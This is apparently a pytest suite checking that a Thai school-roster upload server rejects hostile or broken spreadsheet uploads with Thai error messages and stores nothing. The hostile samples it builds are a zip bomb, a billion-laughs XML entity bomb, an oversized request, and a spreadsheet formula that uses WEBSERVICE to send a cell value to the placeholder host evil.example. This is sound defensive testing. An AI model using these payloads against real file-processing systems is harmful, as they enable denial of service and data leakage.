"""Hostile and broken uploads: each gets a clear Thai 4xx, nothing is stored, and the server serves on.

The size limits are lowered per test where the real ones would need hundreds of megabytes (the
2-million-row case runs at full size); the checks and messages are the same.
"""

from __future__ import annotations

import io
import os
import re
import socket
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from serverkit import ROUND, World

from server.tools import loadrun
from validators import RoundContext, validate_roster
from workbook_templates import read as reader

SCHOOL = "3056200001"
THAI = re.compile(r"[\u0e00-\u0e7f]")
ROSTER_XML = "xl/worksheets/sheet2.xml"


def patch(
    data: bytes, name: str, change: Callable[[str], str] | None = None, *, extra: dict[str, bytes] | None = None
) -> bytes:
    """The workbook with one part rewritten (and parts added): what a hand-made hostile file looks like."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == name and change:
                body = change(body.decode("utf-8")).encode("utf-8")
            dst.writestr(info.filename, body)
        for extra_name, body in (extra or {}).items():
            dst.writestr(extra_name, body)
    return out.getvalue()


def rejected(
    world: World, data: bytes, code: str, filename: str = "roster.xlsx", *, then_serve: bool = True
) -> dict[str, Any]:
    """Upload `data`: 422 with the error `code` and a Thai message, nothing stored, then a good upload works."""
    before = world.db.execute("SELECT COUNT(*) FROM pupils WHERE unit_code = ?", [SCHOOL]).fetchone()[0]
    resp = world.send(SCHOOL, SCHOOL, data, filename=filename)
    body = resp.get_json()
    assert resp.status_code == 422, (resp.status_code, body)
    assert body["accepted"] is False and body["errors"][0]["code"] == code, body["errors"][:2]
    assert THAI.search(body["errors"][0]["message"]) and THAI.search(body["message"])
    assert world.db.execute("SELECT COUNT(*) FROM pupils WHERE unit_code = ?", [SCHOOL]).fetchone()[0] == before
    if then_serve:
        still_serving(world)
    return body


def still_serving(world: World) -> None:
    resp = world.send(SCHOOL, SCHOOL, world.workbook(SCHOOL, n=5, seed=len(world.audit())))
    assert resp.status_code == 200, resp.get_json()


@pytest.fixture
def limits(monkeypatch: pytest.MonkeyPatch) -> Callable[..., None]:
    def set_limits(**kw: Any) -> None:
        monkeypatch.setattr(reader, "LIMITS", replace(reader.LIMITS, **kw))

    return set_limits


def test_not_a_zip_and_a_broken_zip(world: World) -> None:
    rejected(world, b"this is not a workbook", "WORKBOOK_NOT_A_WORKBOOK")
    rejected(world, b"PK\x03\x04" + os.urandom(2000), "WORKBOOK_NOT_A_WORKBOOK")
    rejected(world, world.workbook(SCHOOL)[:5000], "WORKBOOK_NOT_A_WORKBOOK")  # cut short in transit


def test_zip_bomb_by_ratio(world: World) -> None:
    bomb = patch(world.workbook(SCHOOL), "", extra={"xl/media/image1.bin": b"\0" * (16 * 2**20)})
    assert len(bomb) < 200_000  # 16 MiB of zeros packs to almost nothing
    body = rejected(world, bomb, "WORKBOOK_TOO_LARGE")
    assert "เท่า" in body["errors"][0]["message"]


def test_zip_bomb_by_total_size_and_part_count(world: World, limits: Callable[..., None]) -> None:
    data = world.workbook(SCHOOL, n=50)
    limits(max_unpacked=10_000)
    assert "เกิน 0 MB" in rejected(world, data, "WORKBOOK_TOO_LARGE", then_serve=False)["errors"][0]["message"]
    limits(max_unpacked=512 * 2**20, max_parts=5)
    assert "เกิน 5" in rejected(world, data, "WORKBOOK_TOO_LARGE", then_serve=False)["errors"][0]["message"]
    limits(max_parts=1_000)
    still_serving(world)


def test_xml_bomb(world: World) -> None:
    laughs = (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "&lol;" * 10}">' for i in range(9))
        + "]>\n"
    )
    bomb = patch(world.workbook(SCHOOL), "xl/workbook.xml", lambda x: laughs + x.split("?>", 1)[1])
    assert "DOCTYPE" in rejected(world, bomb, "WORKBOOK_UNSAFE_XML")["errors"][0]["message"]
    padded = patch(world.workbook(SCHOOL), ROSTER_XML, lambda x: x.replace("?>", "?>" + "<!-- padding -->" * 10_000, 1))
    rejected(world, padded, "WORKBOOK_UNSAFE_XML")  # a DOCTYPE could hide behind a long prolog


def test_too_large_body_is_413_json_in_thai(world: World) -> None:
    world.app.config["MAX_CONTENT_LENGTH"] = 1024 * 1024
    resp = world.send(SCHOOL, SCHOOL, os.urandom(2 * 1024 * 1024))
    body = resp.get_json()
    assert resp.status_code == 413 and body["error"] == "too_large" and "1 MB" in body["message"], body
    world.app.config["MAX_CONTENT_LENGTH"] = 64 * 1024 * 1024
    still_serving(world)


@pytest.mark.live
def test_a_200_mb_upload_to_lec_serve_is_413_before_it_is_read(tmp_path: Path) -> None:
    """waitress refuses on the Content-Length alone (nothing spooled), in the API's JSON, in Thai."""
    plan = loadrun.make_plan(1, 10, variants=1, workers=1)
    loadrun.install(tmp_path / "data", plan)
    code = plan.institutions[0]
    with loadrun.LiveServer(tmp_path / "data") as server:
        client = loadrun.Client(server.base, code, loadrun.Outcome())
        token = client.http.headers["Authorization"]
        head = (
            f"POST /api/v1/rounds/{ROUND}/units/{code}/workbook HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            f"Authorization: {token}\r\nContent-Type: multipart/form-data; boundary=x\r\n"
            f"Content-Length: {200 * 1024 * 1024}\r\n\r\n"
        ).encode()
        with socket.create_connection(("127.0.0.1", server.port), timeout=30) as sock:
            sock.sendall(head)  # the headers alone are refused: no need to send (or spool) 200 MB
            answer = b""
            while chunk := sock.recv(65536):
                answer += chunk
        status, _, rest = answer.partition(b"\r\n")
        assert b" 413 " in status, answer[:300]
        body = rest.split(b"\r\n\r\n", 1)[1].decode("utf-8")
        assert '"too_large"' in body and "ไฟล์มีขนาดใหญ่เกิน 64 MB" in body
        assert client.upload(code, plan.books[code][0]).status_code == 200


def test_row_cap_names_the_limit(world: World, limits: Callable[..., None]) -> None:
    data = world.workbook(SCHOOL, n=600)
    limits(max_rows=500)
    body = rejected(world, data, "WORKBOOK_TOO_MANY_ROWS")
    assert "500 แถว" in body["errors"][0]["message"]
    # without a dimension element the sheet's real height is checked after calamine opens it
    no_dimension = patch(data, ROSTER_XML, lambda x: re.sub(r"<dimension [^>]*/>", "", x))
    rejected(world, no_dimension, "WORKBOOK_TOO_MANY_ROWS")


def test_two_million_rows_declared(world: World) -> None:
    """A sheet declaring 2,000,000 rows is refused before it is parsed, naming the real limit."""
    data = patch(
        world.workbook(SCHOOL),
        ROSTER_XML,
        lambda x: re.sub(r'<dimension ref="A1:([A-Z]+)\d+"', r'<dimension ref="A1:\g<1>2000004"', x),
    )
    body = rejected(world, data, "WORKBOOK_TOO_MANY_ROWS")
    assert "200,000" in body["errors"][0]["message"] and "2,000,004" in body["errors"][0]["message"]


def test_a_real_two_million_row_workbook(world: World) -> None:
    """2,000,000 real rows (no dimension) in a 20 MB upload: refused for its rows, before calamine loads any.

    The reader measures the sheet's real extent while streaming its XML and stops counting just past the
    cap, so the answer names the limit without parsing the other 1.8 million rows.
    """
    good = world.workbook(SCHOOL)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst,
    ):
        for info in src.infolist():
            if info.filename != ROSTER_XML:
                dst.writestr(info.filename, src.read(info))
        with dst.open(ROSTER_XML, "w", force_zip64=True) as sheet:
            sheet.write(
                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main"><sheetData>'
            )
            for start in range(5, 2_000_005, 100_000):
                sheet.write(
                    "".join(
                        f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>1{r:012d}</t></is></c><c r="C{r}" '
                        f't="inlineStr"><is><t>สมชาย</t></is></c></row>'
                        for r in range(start, start + 100_000)
                    ).encode()
                )
            sheet.write(b"</sheetData></worksheet>")
    data = out.getvalue()
    assert len(data) < 64 * 2**20  # under the upload limit: the row cap, not the size, must refuse it
    body = rejected(world, data, "WORKBOOK_TOO_MANY_ROWS")
    assert "200,000" in body["errors"][0]["message"] and "นักเรียน" in body["errors"][0]["message"]


def test_template_of_another_unit_or_round(world: World) -> None:
    rejected(world, world.workbook(SCHOOL, unit_code="3056100001"), "SERVER_UNIT_MISMATCH")
    rejected(world, world.workbook(SCHOOL, year=2566, round_no=1), "SERVER_ROUND_MISMATCH")
    rejected(world, world.workbook(SCHOOL, form="cdc"), "SERVER_FORM_MISMATCH")


def test_tampered_metadata(world: World) -> None:
    data = world.workbook(SCHOOL)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        meta = next(n for n in z.namelist() if n.startswith("xl/worksheets/") and b"digest" in z.read(n))
    rejected(world, patch(data, meta, lambda x: x.replace(">2567<", ">2568<")), "WORKBOOK_META_TAMPERED")
    rejected(world, patch(data, meta, lambda x: x.replace(SCHOOL, "3056100001")), "WORKBOOK_META_TAMPERED")


def test_formulas_are_never_evaluated_the_cached_value_is_stored(world: World) -> None:
    rows = world.roster(SCHOOL, n=3)
    name = rows[0]["first_name"]
    data = world.workbook(SCHOOL, rows)

    def formula(x: str) -> str:
        cell = re.search(rf'<c r="C5" s="(\d+)" t="inlineStr"><is><t>{name}</t></is></c>', x)
        assert cell, "the first name's cell"
        return x.replace(
            cell.group(0),
            f'<c r="C5" s="{cell.group(1)}" t="str"><f>WEBSERVICE("http://evil.example/"&amp;A5)</f><v>{name}</v></c>',
        )

    resp = world.send(SCHOOL, SCHOOL, patch(data, ROSTER_XML, formula))
    assert resp.status_code == 200, resp.get_json()
    stored = world.db.execute("SELECT first_name FROM pupils WHERE unit_code = ? AND row_no = 5", [SCHOOL]).fetchone()[
        0
    ]
    assert stored == name  # the value Excel showed, never the formula, never a fetch

    def no_cache(x: str) -> str:  # a formula saved without its value (as openpyxl writes them)
        return re.sub(
            r'<c r="C6" s="(\d+)" t="inlineStr"><is><t>[^<]*</t></is></c>', r'<c r="C6" s="\1"><f>1+1</f></c>', x
        )

    body = rejected(
        world, patch(world.workbook(SCHOOL, world.roster(SCHOOL, n=3, seed=4)), ROSTER_XML, no_cache), "REQUIRED"
    )
    assert body["errors"][0]["row"] == 6 and body["errors"][0]["column"] == "first_name"


def test_thai_and_control_characters(world: World) -> None:
    rows = world.roster(SCHOOL, n=4)
    rows[0]["first_name"] = "สม\x07ชาย"
    rows[1]["last_name"] = "ใจ\x1bดี"
    body = rejected(world, world.workbook(SCHOOL, rows), "NAME_CONTROL", filename="แบบฟอร์ม ป.๑ (ส่งซ้ำ).xlsx")
    assert {e["row"] for e in body["errors"] if e["code"] == "NAME_CONTROL"} == {5, 6}
    clean = world.roster(SCHOOL, n=4, seed=2)
    resp = world.send(SCHOOL, SCHOOL, world.workbook(SCHOOL, clean), filename="แบบฟอร์ม ป.๑ (ส่งซ้ำ).xlsx")
    assert resp.status_code == 200
    assert world.db.execute("SELECT filename FROM uploads ORDER BY id DESC").fetchone()[0] == "แบบฟอร์ม ป.๑ (ส่งซ้ำ).xlsx"


# --- property-based: whatever a cell holds, the validators and the route answer, never crash ---------

CELL = st.one_of(
    st.none(),
    st.text(max_size=30),
    st.text(alphabet=st.characters(min_codepoint=0x0E00, max_codepoint=0x0E7F), max_size=20),
    st.text(alphabet=st.characters(codec="utf-8", categories=("Cc", "Cf", "Zs", "Nd")), max_size=10),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False),
    st.dates(min_value=date(1800, 1, 1), max_value=date(2600, 12, 31)),
    st.sampled_from(
        [
            "1101700203451",
            "0101700203451",
            "G644200000001",
            "ป.1",
            "อ.2",
            "ชาย",
            "หญิง",
            "เด็กชาย",
            "05/03/2561",
            "31/02/2560",
            "๑๑๐๑๗๐๐๒๐๓๔๕๑",
            "=1+1",
            "@SUM(A1)",
        ]
    ),
)
KEYS = (
    "citizen_id",
    "prefix",
    "first_name",
    "last_name",
    "sex",
    "birth_date",
    "grade",
    "room",
    "nationality",
    "entry_date",
)
ROW = st.fixed_dictionaries({k: CELL for k in KEYS})
CTX = RoundContext(2567, 2, as_of=date(2024, 11, 10), today=date(2024, 11, 1))


def _well_formed(findings: list[Any], rows: int) -> None:
    for f in findings:
        assert re.fullmatch(r"[A-Z][A-Z0-9_]+", f.code), f.code
        assert f.message and THAI.search(f.message), f
        assert f.row is None or 1 <= f.row <= rows + 4, f


@settings(max_examples=150, deadline=None)
@given(st.lists(ROW, min_size=1, max_size=6), st.sampled_from(["school", "cdc"]))
def test_fuzzed_rows_through_the_validators(rows: list[dict[str, Any]], form: str) -> None:
    result = validate_roster(form, list(enumerate(rows, start=1)), CTX)
    _well_formed([*result.errors, *result.warnings, *result.notices], len(rows))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(ROW, min_size=1, max_size=4))
def test_fuzzed_rows_through_the_upload_route(world: World, rows: list[dict[str, Any]]) -> None:
    resp = world.send(SCHOOL, SCHOOL, world.workbook(SCHOOL, rows))
    assert resp.status_code in (200, 422), (resp.status_code, resp.get_data()[:300])
    body = resp.get_json()
    if resp.status_code == 422:
        assert body["accepted"] is False and body["errors"]
        assert all(THAI.search(e["message"]) for e in body["errors"])
    else:
        assert body["accepted"] is True and body["rows"] == len(rows)
